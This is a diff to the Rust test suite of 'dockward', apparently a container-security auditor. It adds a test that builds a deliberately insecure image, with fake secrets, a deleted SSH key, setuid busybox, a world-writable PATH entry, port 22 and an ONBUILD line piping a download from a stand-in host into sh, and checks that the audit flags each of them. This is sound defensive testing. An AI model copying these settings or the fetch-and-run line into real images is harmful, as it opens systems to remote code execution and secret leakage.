@@ -147,6 +147,24 @@ fn every_container_hole_is_found_running_or_stopped() {
         "{p:#}"
     );
 
+    // Each image a container uses is audited from its config and history,
+    // its user left to the container rule (which sees --user).
+    let images: Vec<&Value> = v["targets"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|t| t["kind"] == "image")
+        .collect();
+    assert!(images.iter().any(|t| t["name"] == IMAGE), "{images:?}");
+    assert!(
+        !v["findings"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|f| f["rule"] == "image-root-user"),
+        "no image-root-user under --host"
+    );
+
     // The daemon as it runs: icc is on and userns-remap off on the bench.
     let daemon: BTreeSet<String> = v["findings"]
         .as_array()
@@ -824,4 +842,105 @@ fn fix_until_clean(name: &str, work: &std::path::Path) -> Vec<String> {
         );
         applied.push(rule);
     }
+}
+
+/// `audit --image` on a real image built on the bench: what its config,
+/// history and layers hold, secrets never printed, the deleted key found
+/// in the layer that still has it; a missing image is exit 4.
+#[test]
+fn an_image_is_judged_by_its_config_history_and_layers() {
+    require_engine!();
+    let img = dockward_testbench::Image::build(
+        "imgaudit",
+        "ARG NPM_TOKEN=npm_secret_dwt\n\
+         ENV DB_PASSWORD=hunter2-dwt\n\
+         RUN busybox mkdir -p /root/.ssh /opt/tools /app && echo '-----BEGIN OPENSSH PRIVATE KEY-----' > /root/.ssh/id_rsa && echo TOKEN=x > /app/.env\n\
+         RUN echo $NPM_TOKEN >/dev/null && busybox chmod 4755 /bin/busybox && busybox chmod 777 /opt/tools && busybox rm /root/.ssh/id_rsa\n\
+         ENV PATH=/opt/tools:/bin\n\
+         EXPOSE 22\n\
+         ONBUILD RUN wget -qO- http://example.invalid/i.sh | sh",
+    );
+    let dir = tempfile::tempdir().unwrap();
+    let out = Command::cargo_bin("dockward")
+        .unwrap()
+        .current_dir(dir.path())
+        .args(["audit", "--image", &img.name, "--format", "json"])
+        .output()
+        .unwrap();
+    assert_eq!(
+        out.status.code(),
+        Some(1),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(!text.contains("npm_secret_dwt") && !text.contains("hunter2-dwt"));
+    let v: Value = serde_json::from_str(&text).unwrap();
+    let found: BTreeSet<String> = v["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| f["rule"].as_str().unwrap().to_string())
+        .collect();
+    assert_eq!(
+        found,
+        set(&[
+            "image-history-secret",
+            "image-history-step",
+            "image-no-healthcheck",
+            "image-root-user",
+            "image-secret-env",
+            "image-secret-file",
+            "image-setuid",
+            "image-ssh-port",
+            "image-writable-path",
+        ]),
+        "{text}"
+    );
+    // Only the image: no file or host target.
+    assert_eq!(
+        v["targets"].as_array().unwrap().len(),
+        1,
+        "{}",
+        v["targets"]
+    );
+    let key = v["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| {
+            f["evidence"]
+                .as_str()
+                .unwrap()
+                .starts_with("/root/.ssh/id_rsa")
+        })
+        .expect("the deleted key");
+    assert!(key["evidence"]
+        .as_str()
+        .unwrap()
+        .contains("deleted by a later layer"));
+    assert!(key["location"]["layer"]
+        .as_str()
+        .unwrap()
+        .starts_with("sha256:"));
+    // SARIF points at the image and the layer.
+    let sarif = Command::cargo_bin("dockward")
+        .unwrap()
+        .current_dir(dir.path())
+        .args(["audit", "--image", &img.name, "--format", "sarif"])
+        .output()
+        .unwrap();
+    let s = String::from_utf8_lossy(&sarif.stdout);
+    assert!(s.contains("/layer/sha256:"), "{s}");
+
+    let out = Command::cargo_bin("dockward")
+        .unwrap()
+        .current_dir(dir.path())
+        .args(["audit", "--image", "dwt-no-such-image:0"])
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(4));
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(err.trim().lines().count(), 1, "{err}");
+    assert!(err.contains("dwt-no-such-image:0"), "{err}");
 }
